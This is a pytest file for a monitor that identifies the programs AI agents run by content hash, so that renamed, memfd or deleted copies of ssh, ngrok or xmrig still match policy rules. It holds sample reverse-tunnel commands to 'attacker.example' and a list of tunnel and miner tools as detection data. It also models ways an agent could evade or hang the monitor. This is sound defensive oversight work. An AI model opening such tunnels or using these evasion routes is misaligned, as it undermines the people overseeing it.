"""Program identity by content (monitor/sessions/identity.py, sessions/hostbins.py,
policy/identity.py and the engine's use of them): fingerprints of real files and real
processes (a copy, a memfd, a deleted file), the cache and its key, the bounds on what an
agent can make the monitor read, the host binaries a policy names, and rules that match a
copy of a program by its content."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import textwrap
import time
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from timebox import within

from monitor.model.cmdline import file_name
from monitor.model.errors import ConfigError
from monitor.model.events import ExecEvent
from monitor.observe.output import record
from monitor.policy.engine import evaluate_exec
from monitor.policy.identity import HostBinaries, named_programs
from monitor.policy.kernel_tables import compile_kernel
from monitor.policy.load import default_policy, load_policy_text
from monitor.policy.replay import replay
from monitor.policy.types import Policy
from monitor.service.daemon import Monitor
from monitor.sessions.hostbins import changed, dpkg_paths, fingerprint_host
from monitor.sessions.identity import (
    BUSY,
    MIB,
    NOT_REGULAR,
    OPEN_FLAGS,
    TOO_LARGE,
    Identity,
    Print,
    exe_name,
)
from monitor.sessions.procfs import ProcFS
from tests.support.events import exec_event
from tests.support.kernel import FakeProbes
from tests.support.log import Log
from tests.support.monitor import CLAUDE, B, Rig, agent_tree, config, make_proc, rig
from tests.support.monitor import header as rig_header

SSH = shutil.which("ssh") or "/usr/bin/ssh"
SLEEP = shutil.which("sleep") or "/bin/sleep"


def sha(path: str | Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


class Lines:
    def __init__(self) -> None:
        self.items: list[dict[str, Any]] = []

    def __call__(self, msg: str, level: str = "info", **fields: Any) -> None:
        self.items.append({"msg": msg, **fields})


class FakeClock:
    def __init__(self) -> None:
        self.t = 1000.0

    def __call__(self) -> float:
        return self.t


def print_of(identity: Identity, path: str | Path) -> Print:
    fd = os.open(path, OPEN_FLAGS)
    try:
        return identity.fingerprint(fd, os.fstat(fd))
    finally:
        os.close(fd)


@pytest.fixture
def identity() -> Identity:
    return Identity(log=Lines())


# --- fingerprints and the cache -------------------------------------------------------------


def test_a_file_is_hashed_once_then_served_from_the_cache(identity: Identity,
                                                          tmp_path: Path) -> None:
    f = tmp_path / "tool"
    f.write_bytes(os.urandom(3 * MIB + 17))  # more than one chunk, not a multiple of one
    assert print_of(identity, f) == Print(sha(f))
    assert print_of(identity, f) == Print(sha(f))
    assert identity.hashed == 1
    link = tmp_path / "other-name"
    link.symlink_to(f)  # the same file under another name: no second read
    assert print_of(identity, link).sha256 == sha(f) and identity.hashed == 1


def test_rewriting_a_file_changes_its_key(identity: Identity, tmp_path: Path) -> None:
    f = tmp_path / "tool"
    f.write_bytes(b"A" * 4096)
    first = print_of(identity, f).sha256
    st = f.stat()
    with open(f, "r+b") as out:  # same size, same mtime put back: ctime still moves
        out.write(b"B")
    os.utime(f, ns=(st.st_atime_ns, st.st_mtime_ns))
    second = print_of(identity, f).sha256
    assert first != second == sha(f) and identity.hashed == 2


def test_the_cache_is_bounded_least_recently_used_first(tmp_path: Path) -> None:
    identity = Identity(log=Lines(), cache_entries=2)
    files = []
    for i in range(3):
        files.append(tmp_path / f"f{i}")
        files[-1].write_bytes(bytes([i]) * 100)
    print_of(identity, files[0])
    print_of(identity, files[1])
    print_of(identity, files[0])  # f0 used last: f1 goes first
    print_of(identity, files[2])
    assert len(identity.cache) == 2 and identity.hashed == 3
    print_of(identity, files[0])
    assert identity.hashed == 3  # still cached
    print_of(identity, files[1])
    assert identity.hashed == 4  # evicted, read again


# --- what an agent can point the monitor at -----------------------------------------------


def proc_tree(root: Path, pid: int, exe: str) -> None:
    (root / str(pid)).mkdir(parents=True)
    (root / str(pid) / "exe").symlink_to(exe)


def test_a_fifo_a_device_and_a_huge_sparse_file_are_refused_without_reading(
        tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)  # nobody writes it: a blocking open or read would hang here
    sparse = tmp_path / "sparse"
    with open(sparse, "wb") as f:
        f.truncate(100 << 30)  # 100 GiB of holes
    proc = tmp_path / "proc"
    lines = Lines()
    identity = Identity(str(proc), log=lines)
    for pid, target, reason in ((10, fifo, NOT_REGULAR), (11, "/dev/zero", NOT_REGULAR),
                                (12, sparse, TOO_LARGE), (13, tmp_path, NOT_REGULAR)):
        proc_tree(proc, pid, str(target))
        ev = exec_event(pid, 1, "x")
        assert within(2.0, lambda ev=ev: identity.identify(ev)).sha256 is None
        ev = identity.identify(ev)  # again in this process, to see what it logged
        assert ev.sha256 is None and identity.hashed == 0
        assert lines.items[-1]["msg"] == "executable not fingerprinted"
        assert lines.items[-1]["reason"] == reason
        lines.items.clear()
        identity.said.clear()


def test_a_process_gone_before_its_file_is_opened_is_left_as_it_was(tmp_path: Path) -> None:
    identity = Identity(str(tmp_path), log=Lines())
    ev = exec_event(999_999, 1, "x")
    assert identity.identify(ev) == ev


def test_the_hashing_budget_stops_a_loop_of_fresh_large_files(tmp_path: Path) -> None:
    clock = FakeClock()
    lines = Lines()
    identity = Identity(log=lines, clock=clock, budget_bytes=2 * MIB, rate_bytes=MIB)
    big = []
    for i in range(3):
        big.append(tmp_path / f"big{i}")
        big[-1].write_bytes(bytes([i]) * (2 * MIB))
    assert print_of(identity, big[0]).sha256 == sha(big[0])
    assert print_of(identity, big[1]) == Print(None, BUSY)  # budget spent
    clock.t += 2.0  # it comes back
    assert print_of(identity, big[1]).sha256 == sha(big[1])
    # a file the size of a host binary the policy names may be a copy of it: always read
    identity.host = HostBinaries.of([("ssh", "/usr/bin/ssh", "0" * 64, 2 * MIB)])
    assert print_of(identity, big[2]).sha256 == sha(big[2])


# --- real processes: a copy, a memfd, a deleted file ----------------------------------------


@pytest.fixture
def children() -> Iterator[list[subprocess.Popen[bytes]]]:
    started: list[subprocess.Popen[bytes]] = []
    yield started
    for p in started:
        p.kill()
        p.wait()


def wait_exec(pid: int, not_exe: str) -> None:
    deadline = time.monotonic() + 5
    while os.readlink(f"/proc/{pid}/exe") == not_exe:
        assert time.monotonic() < deadline
        time.sleep(0.01)


def test_a_memfd_is_named_memfd_name_fileless_and_fingerprinted(
        identity: Identity, children: list[subprocess.Popen[bytes]]) -> None:
    fd = os.memfd_create("xmrig", 0)
    os.write(fd, Path(SLEEP).read_bytes())
    p = subprocess.Popen([f"/proc/self/fd/{fd}", "30"], pass_fds=[fd], close_fds=True)
    children.append(p)
    os.close(fd)
    wait_exec(p.pid, os.readlink("/proc/self/exe"))
    ev = identity.identify(exec_event(p.pid, 1, "3 30", exe=f"/dev/fd/{fd}"))
    assert ev.filename == "memfd:xmrig" and ev.fileless
    assert ev.sha256 == sha(SLEEP)
    assert file_name(ev.filename) == "xmrig"


def running_copy(tmp_path: Path, children: list[subprocess.Popen[bytes]]
                 ) -> tuple[Path, subprocess.Popen[bytes]]:
    """A copy of sleep, running (sleep 30) from tmp_path/notsleep."""
    copy = tmp_path / "notsleep"
    shutil.copy(SLEEP, copy)
    p = subprocess.Popen([str(copy), "30"])
    children.append(p)
    wait_exec(p.pid, os.readlink("/proc/self/exe"))
    return copy, p


def test_a_deleted_copy_keeps_its_name_and_its_content(
        identity: Identity, tmp_path: Path, children: list[subprocess.Popen[bytes]]) -> None:
    copy, p = running_copy(tmp_path, children)
    copy.unlink()
    ev = identity.identify(exec_event(p.pid, 1, f"{copy} 30", exe=str(copy)))
    assert ev.filename == f"{copy} (deleted)" and ev.fileless
    assert ev.sha256 == sha(SLEEP)


def test_a_file_on_disk_keeps_the_exec_path_and_is_not_fileless(
        identity: Identity, tmp_path: Path, children: list[subprocess.Popen[bytes]]) -> None:
    copy, p = running_copy(tmp_path, children)
    ev = identity.identify(exec_event(p.pid, 1, "./notsleep 30", exe="./notsleep"))
    assert ev.filename == "./notsleep" and not ev.fileless and ev.sha256 == sha(SLEEP)
    assert ev.real_exe == str(copy)  # what `exe:` globs also match
    same = identity.identify(exec_event(p.pid, 1, "notsleep 30", exe=str(copy)))
    assert same.real_exe is None  # exec was given the real path: nothing to add


def test_an_exe_glob_matches_the_real_path_behind_a_relative_one() -> None:
    p = load_policy_text("mode: enforce\nrules:\n  - {name: t, event: exec, action: kill, "
                         "match: {exe: [\"/tmp/*\"]}}\n")
    kw: dict[str, Any] = dict(agent="a", session=1, pid=5, comm="x", argv=["./x"])
    assert evaluate_exec(p, exe="./x", **kw) == []
    [v] = evaluate_exec(p, exe="./x", real_exe="/tmp/x", **kw)
    assert v.reason == "executable /tmp/x matches /tmp/*"


def test_kernel_names_of_executables() -> None:
    assert exe_name("/memfd:a b (deleted)") == ("memfd:a b", True)
    assert exe_name("/tmp/x (deleted)") == ("/tmp/x (deleted)", True)
    assert exe_name("/usr/bin/ssh") == ("/usr/bin/ssh", False)
    assert file_name("/tmp/x (deleted)") == "x"
    assert file_name("memfd:") == "memfd:"


# --- host binaries ----------------------------------------------------------------------


def test_host_binaries_named_by_rules_are_found_and_fingerprinted(
        identity: Identity, tmp_path: Path) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    shutil.copy(SSH, bin_dir / "ssh")
    (bin_dir / "ngrok").symlink_to(bin_dir / "ssh")  # symlinks resolved
    os.mkfifo(bin_dir / "chisel")  # never read
    info = tmp_path / "info"
    info.mkdir()
    opt = tmp_path / "opt" / "tool" / "bin"
    opt.mkdir(parents=True)
    (opt / "bore").write_bytes(b"bore binary")
    (info / "bore.list").write_text(f"/etc/bore\n{opt}\n{opt / 'bore'}\n/usr/share/bore\n")
    (info / "other.list").write_text("/usr/lib/bore\n/usr/share/doc/x/bore\n")
    lines = Lines()
    names = ["ssh", "ngrok", "chisel", "bore", "xmrig"]
    within(5.0, lambda: fingerprint_host(names, Identity(log=Lines()), dirs=[str(bin_dir)],
                                         dpkg_info=str(info)))  # the FIFO does not hang it
    host = fingerprint_host(names, identity, dirs=[str(bin_dir)], dpkg_info=str(info),
                            log=lines)
    assert host.copy_of(sha(SSH)) == {"ssh": str(bin_dir / "ssh"),
                                      "ngrok": str(bin_dir / "ngrok")}
    assert host.copy_of(sha(opt / "bore")) == {"bore": str(opt / "bore")}
    assert host.sizes == {Path(SSH).stat().st_size, len(b"bore binary")}
    said = lines.items[-1]
    assert said["msg"] == "host binaries fingerprinted"
    assert said["names"] == ["bore", "ngrok", "ssh"] and said["missing"] == ["chisel", "xmrig"]
    assert list(dpkg_paths(["bore"], str(info))) == [("bore", str(opt / "bore"))]


def test_the_real_hosts_ssh_is_found(identity: Identity) -> None:
    if not os.path.exists(SSH):
        pytest.skip("no ssh on this host")
    host = fingerprint_host(named_programs(default_policy()), identity)
    assert "ssh" in host.copy_of(sha(SSH))


# --- rules -------------------------------------------------------------------------------


def policy(rules: str, lists: str = "") -> Policy:
    return load_policy_text(textwrap.dedent("""\
        mode: enforce
        agents:
          - {name: bot, match: [{comm: bot}]}
        """) + textwrap.dedent(lists) + "rules:\n" + textwrap.indent(
        textwrap.dedent(rules), "  "), "test.yaml")


SSH_HASH = "ab" * 32
HOST = HostBinaries.of([("ssh", "/usr/bin/ssh", SSH_HASH, 1000),
                        ("ngrok", "/usr/local/bin/ngrok", "cd" * 32, 2000)])


def verdicts(p: Policy, argv: str, sha256: str | None, exe: str = "/tmp/x/notssh",
             comm: str = "notssh") -> list[tuple[str, str]]:
    return [(v.rule, v.reason) for v in evaluate_exec(
        p, agent="bot", session=1, pid=2, exe=exe, comm=comm, argv=argv.split(),
        sha256=sha256, host=HOST)]


def test_a_copy_of_ssh_under_another_name_is_ssh() -> None:
    p = default_policy()
    found = verdicts(p, "notssh -fNR 2222:localhost:22 attacker.example", SSH_HASH)
    assert found == [("ssh-reverse-or-dynamic-forward",
                      "ssh (same content as /usr/bin/ssh) requests remote_forward")]
    assert verdicts(p, "notssh -L 8080:localhost:80 devbox", SSH_HASH) == [
        ("ssh-local-forward", "ssh (same content as /usr/bin/ssh) requests local_forward")]
    assert verdicts(p, "notssh -fNR 2222:localhost:22 attacker.example", "ef" * 32) == []
    assert verdicts(p, "notssh -fNR 2222:localhost:22 attacker.example", None) == []
    # named ssh: said as before
    assert verdicts(p, "ssh -R 1:x:2 h", None, exe="/usr/bin/ssh", comm="ssh") == [
        ("ssh-reverse-or-dynamic-forward", "ssh requests remote_forward")]


def test_a_copy_of_a_named_program_matches_its_name_rule() -> None:
    p = default_policy()
    assert verdicts(p, "innocent http 80", "cd" * 32, exe="/tmp/innocent",
                    comm="innocent") == [
        ("no-tunnel-tools", "runs ngrok (name in @tunnel_tools; same content as "
         "/usr/local/bin/ngrok)")]
    assert verdicts(p, "innocent http 80", "ef" * 32, exe="/tmp/innocent",
                    comm="innocent") == []


def test_sha256_rules_match_the_executables_content() -> None:
    bad = "0123456789abcdef" * 4
    other = "FEDCBA9876543210" * 4  # any case
    p = policy(f"""\
        - name: known-bad
          event: exec
          action: kill
          match:
            sha256: ["@bad_binaries", "{other}"]
        """, lists=f"lists:\n  bad_binaries: ['{bad.upper()}']\n")
    assert verdicts(p, "whatever", bad) == [
        ("known-bad", "executable sha256 0123456789abcdef… in @bad_binaries")]
    assert verdicts(p, "whatever", "fedcba9876543210" * 4) == [
        ("known-bad", "executable sha256 fedcba9876543210… is listed")]
    assert verdicts(p, "whatever", None) == [] and verdicts(p, "whatever", "1" * 64) == []
    v = evaluate_exec(p, agent="bot", session=1, pid=2, exe="/x", comm="x", argv=["x"],
                      sha256=bad)
    assert v[0].sha256 == bad


@pytest.mark.parametrize("value,line", [
    ("'abc'", 7), ("12345", 7), ("'" + "g" * 64 + "'", 7), ("'" + "a" * 65 + "'", 7),
    ("[1, 2]", 7), ("'@bad'", 4)])
def test_a_bad_sha256_is_an_error_with_file_line_and_advice(value: str, line: int) -> None:
    text = textwrap.dedent(f"""\
        mode: enforce
        lists:
          bad:
            - 'zz'
        rules:
          - {{name: r, event: exec, action: kill,
              match: {{sha256: [{value}]}}}}
        """)
    with pytest.raises(ConfigError) as info:
        load_policy_text(text, "p.yaml")
    message = str(info.value)
    assert f"p.yaml:{line}:" in message and "sha256" in message
    assert "64 hex digits" in message or "expected" in message


def test_named_programs_are_every_name_and_ssh_for_ssh_rules() -> None:
    names = named_programs(default_policy())
    assert {"ssh", "xmrig", "ngrok", "cloudflared"} <= names
    assert "ssh" not in named_programs(policy("""\
        - {name: r, event: exec, action: kill, match: {name: [xmrig]}}
        """))


# --- the daemon: agents' execs only -----------------------------------------------------------


def ssh_copy_rig(tmp_path: Path) -> tuple[Rig, Path]:
    """A daemon on the default policy (monitor mode) whose host ssh is tmp_path/notssh."""
    r = rig(tmp_path, trace_all=True)
    copy = tmp_path / "notssh"
    copy.write_bytes(b"the host's ssh, byte for byte")
    text = Path(default_policy().source).read_text().replace("mode: enforce", "mode: monitor")
    pol = load_policy_text(text, "<default, monitor mode>")
    host = HostBinaries.of([("ssh", "/usr/bin/ssh", sha(copy), copy.stat().st_size)])
    r.mon.judge.use(pol, compile_kernel(pol), host)
    return r, copy


def test_the_daemon_fingerprints_agent_execs_and_never_an_untracked_one(tmp_path: Path) -> None:
    r, copy = ssh_copy_rig(tmp_path)
    make_proc(r.proc, B + 50, 1, "notssh", exe=str(copy))
    argv = ("notssh", "-NR", "9000:localhost:22", "h")

    untracked = exec_event(B + 50, 1, argv, exe=str(copy), session=0)
    r.mon.handle(untracked)
    assert r.mon.identity.hashed == 0 and not r.log.find("verdict")
    assert r.sink[-1][0] == untracked  # shown by trace --all as it came: nothing read

    r.mon.handle(exec_event(B + 50, 2, argv, exe=str(copy), session=0x80000007,
                            agent=CLAUDE, h=rig_header(B + 50, session=0x80000007,
                                                       agent=CLAUDE, comm="notssh")))
    assert r.mon.identity.hashed == 1
    (v,) = r.log.find("verdict")
    assert v["rule"] == "ssh-reverse-or-dynamic-forward" and v["sha256"] == sha(copy)
    assert v["reason"] == "ssh (same content as /usr/bin/ssh) requests remote_forward"
    traced = r.sink[-1][0]
    assert getattr(traced, "sha256", None) == sha(copy)


def test_a_recording_replays_sha256_rules_on_its_hashes() -> None:
    bad = "ab" * 32
    p = policy(f"""\
        - {{name: known-bad, event: exec, action: kill, match: {{sha256: ["{bad}"]}}}}
        """)
    ev = exec_event(10, 1, "build-helper 30", session=1)
    recs = [record(replace(ev, sha256=bad), "bot"), record(ev, "bot"),
            {**record(ev, "bot"), "sha256": "not a digest"}]
    assert [(v.rule, v.sha256) for v in replay(p, recs)] == [("known-bad", bad)]


def test_a_running_copy_found_at_adoption_is_judged_by_its_content(tmp_path: Path) -> None:
    r, copy = ssh_copy_rig(tmp_path)
    agent_tree(r.proc)  # agent root B (claude)
    make_proc(r.proc, B + 60, B, "notssh", argv=("notssh", "-fND", "1080", "h"),
              exe=str(copy))
    r.mon.adopter.adopt_running()
    (v,) = [v for v in r.log.find("verdict") if v["pid"] == B + 60]
    assert v["rule"] == "ssh-reverse-or-dynamic-forward" and v["sha256"] == sha(copy)


def test_an_upgraded_or_new_host_binary_is_noticed_without_reading_it(
        identity: Identity, tmp_path: Path) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "ssh").write_bytes(b"ssh 9.2")
    names, dirs = ["ssh", "ngrok"], [str(bin_dir)]
    host = fingerprint_host(names, identity, dirs=dirs, dpkg_info=str(tmp_path / "none"))
    assert not changed(host, names, dirs)
    (bin_dir / "ssh.new").write_bytes(b"ssh 9.9")
    os.replace(bin_dir / "ssh.new", bin_dir / "ssh")  # what a package upgrade does
    assert changed(host, names, dirs)
    host = fingerprint_host(names, identity, dirs=dirs, dpkg_info=str(tmp_path / "none"))
    assert host.copy_of(sha(bin_dir / "ssh")) == {"ssh": str(bin_dir / "ssh")}
    assert not changed(host, names, dirs)
    (bin_dir / "ngrok").write_bytes(b"ngrok")  # installed since
    assert changed(host, names, dirs)


def test_at_start_the_host_is_fingerprinted_before_running_agents_are_judged(
        tmp_path: Path) -> None:
    if not os.path.exists(SSH):
        pytest.skip("no ssh on this host")
    proc = tmp_path / "proc"
    agent_tree(proc)  # agent root B (claude)
    copy = tmp_path / "x"
    shutil.copy(SSH, copy)  # the host's real ssh, found on the standard paths at start
    make_proc(proc, B + 60, B, "x", argv=("x", "-NR", "9000:localhost:22", "h"),
              exe=str(copy))
    pol = load_policy_text("mode: monitor\nrules:\n  - {name: fwd, event: exec, action: kill, "
                           "match: {ssh: [remote_forward]}}\n", "p.yaml")
    log = Log()
    mon = Monitor(config(), pol, probes=FakeProbes(), procfs=ProcFS(proc), log=log)
    mon.start()
    try:
        (v,) = [v for v in log.find("verdict") if v["pid"] == B + 60]
        assert "same content as" in v["reason"] and v["sha256"] == sha(SSH)
        said = [m for m, _, _ in log.lines]
        assert said[said.index("monitor started") + 1] == "host binaries fingerprinted"
        assert "ssh" in log.find("host binaries fingerprinted")[0]["names"]
    finally:
        mon.stop()


@dataclass(slots=True)
class LoaderExec(ExecEvent):
    """An exec as the ldso helper's field makes it (model/events.py gains `loader`)."""

    loader: str | None = None


def test_a_program_run_through_the_loader_is_read_in_its_own_root(tmp_path: Path) -> None:
    proc, rootfs = tmp_path / "proc", tmp_path / "rootfs"
    (rootfs / "opt").mkdir(parents=True)
    prog = rootfs / "opt" / "prog"
    prog.write_bytes(b"the program, not the loader")
    (tmp_path / "outside").write_bytes(b"a file outside the process's root")
    proc_tree(proc, 20, SLEEP)  # /proc/PID/exe: what the kernel ran, the loader
    (proc / "20" / "root").symlink_to(rootfs)
    identity = Identity(str(proc), log=Lines())
    ev = loader_exec(20, "/opt/prog")
    found = identity.identify(ev)
    assert found.sha256 == sha(prog) and found.filename == "/opt/prog"
    escape = replace(ev, filename="/../outside")  # never above the process's root
    assert identity.identify(escape).sha256 is None


def loader_exec(pid: int, filename: str) -> LoaderExec:
    base = exec_event(pid, 1, filename)
    return LoaderExec(base.h, base.old_tid, base.ppid, base.cgroup_id, base.flags, filename,
                      base.argv, loader="/lib64/ld-linux-x86-64.so.2")


def test_proc_self_in_a_loader_run_programs_path_is_that_process_not_the_monitor(
        tmp_path: Path) -> None:
    proc = tmp_path / "proc"
    prog = tmp_path / "memfd-program"
    prog.write_bytes(b"what the agent's fd 7 holds")
    proc_tree(proc, 30, SLEEP)
    (proc / "30" / "root").symlink_to("/")  # its root is ours, with the real procfs
    (proc / "30" / "fd").mkdir()
    (proc / "30" / "fd" / "7").symlink_to(prog)  # the agent's fd 7
    link = tmp_path / "innocent"
    link.symlink_to("/dev/fd/7")  # -> /proc/self/fd/7: the monitor's fd 7, read blindly
    identity = Identity(str(proc), log=Lines())
    for spelled in ("/proc/self/fd/7", "/dev/fd/7", str(link), "/proc/thread-self/fd/7"):
        assert identity.identify(loader_exec(30, spelled)).sha256 == sha(prog), spelled
    # an agent's own look-alike mounted at its /proc is followed as the agent's open would
    fake = tmp_path / "rootfs"
    (fake / "proc").mkdir(parents=True)
    (fake / "proc" / "self").symlink_to("/own")
    (fake / "own" / "fd").mkdir(parents=True)
    (fake / "own" / "fd" / "7").write_bytes(b"its own fd 7")
    proc_tree(proc, 31, SLEEP)
    (proc / "31" / "root").symlink_to(fake)
    found = identity.identify(loader_exec(31, "/proc/self/fd/7"))
    assert found.sha256 == sha(fake / "own" / "fd" / "7")
